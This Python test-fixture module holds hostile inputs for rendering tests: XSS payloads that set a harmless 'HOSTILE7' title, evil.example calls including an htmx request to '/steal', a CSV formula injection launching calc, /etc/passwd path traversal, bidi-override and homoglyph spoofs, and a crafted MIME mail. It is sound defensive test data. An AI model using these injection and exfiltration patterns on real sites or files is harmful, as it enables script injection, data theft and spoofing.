"""Evidence that means harm to a page: names, captions, mail, picture metadata, SVG, domains.

For tests of pages, ours and third parties': every page is rendered with these and must show them as text, make no
request, keep its layout and its direction. Nothing here is real; all hosts are reserved names.

Source: RFC 2606 (reserved names); Unicode Standard Annex 9, UTR 36.
"""

MARKER = "HOSTILE7"
"""Stands in every script: a page on which it ran would have it in its title."""

NAMES = (
    "invoice\u202egpj.exe",
    "‮evil.txt",
    "<img src=x onerror=document.title='HOSTILE7'>.html",
    '"><script>document.title="HOSTILE7"</script>.pdf',
    "javascript:document.title='HOSTILE7'",
    "{{ 7*7 }}${7*7}<%= 7*7 %>.txt",
    "../../etc/passwd",
    "C:\\Windows\\..\\x.dll",
    "tab\there\nnewline\r.txt",
    "zero\u200bwidth\ufeffjoined\u2060.txt",
    "nul\\x00byte-\\xff\\xfe.bin",
    "a" + "\u0301" * 60 + " stacked.txt",
    "نشرة\u2067\u2066الأخبار.txt",
    "خطة العمل 2026-03 (نسخة 2).docx",
    "דוח סופי.pdf",
    "計画書\u3000最終版.pdf",
    "x" * 240 + ".log",
    "hx-get=//evil.example hx-trigger=load.htm",
    "\U000e0061\U000e0062tags.txt",
    "=cmd|' /C calc'!A0.csv",
    "-rf ~.sh",
    " leading and trailing .txt ",
    "&lt;b&gt;already&amp;escaped.txt",
)

CAPTIONS = (
    "<script>document.title='HOSTILE7'</script>",
    "<svg onload=\"document.title='HOSTILE7'\"><circle r=9 /></svg>",
    "<a href=\"javascript:document.title='HOSTILE7'\">press</a>",
    '<div hx-get="http://evil.example/steal" hx-trigger="load" hx-nonce="guess">x</div>',
    '<img src="http://evil.example/pixel.png" onerror="document.title=\'HOSTILE7\'">',
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=//evil.example/><form action=/steal><input name=q autofocus>",
    "</pre></main></body><plaintext>",
    "right \u202eto left override that must not leak ",
    "می\u200cخواهم کتاب\u200cها را ببینم",
    "क\u094dष and 👩\u200d👩\u200d👧 keep their joiners",
    "Z" + "\u0300" * 200 + "algo",
    "word" * 400,
    "-->]]>'\"`${alert(1)}",
)

DOMAINS = (
    "kestrel-radio.example",
    "kеstrel-radio.example",  # the second letter is Cyrillic
    "إذاعة.example",
    "xn--80ak6aa92e.example",
    "www.kestrel-radio.example.evil\u2024example",
)

SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'HOSTILE7\'">'
    '<script>document.title="HOSTILE7"</script><image href="http://evil.example/x.png"/>'
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='1'/></body></foreignObject></svg>"
)

METADATA = {
    "Artist": CAPTIONS[0],
    "ImageDescription": CAPTIONS[1],
    "Copyright": "\u202e" + CAPTIONS[2],
    "<b>key</b>": ["list", {"deep": CAPTIONS[4]}],
    "GPS": {"lat": 0, "lon": 0, "note": "nul\u0000byte"},
}

MAIL = (
    'From: "=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=" <a@kestrel.example>\r\n'
    "To: b@kestrel.example\r\n"
    "Subject: <img src=http://evil.example/p.png> \u202egnp.exe\r\n"
    "Date: Wed, 04 Mar 2026 21:14:09 +0000\r\n"
    "MIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=edge\r\n\r\n"
    "--edge\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    '<p>The schedule is attached.</p><img src="http://evil.example/pixel.png">'
    "<script>document.title='HOSTILE7'</script><svg onload=\"document.title='HOSTILE7'\"></svg>\r\n"
    "--edge\r\nContent-Type: text/plain; name=schedule.txt\r\n"
    "Content-Disposition: attachment; filename=schedule.txt\r\n\r\n"
    "Kestrel radio schedule, every evening at eight.\r\n--edge--\r\n"
).encode()
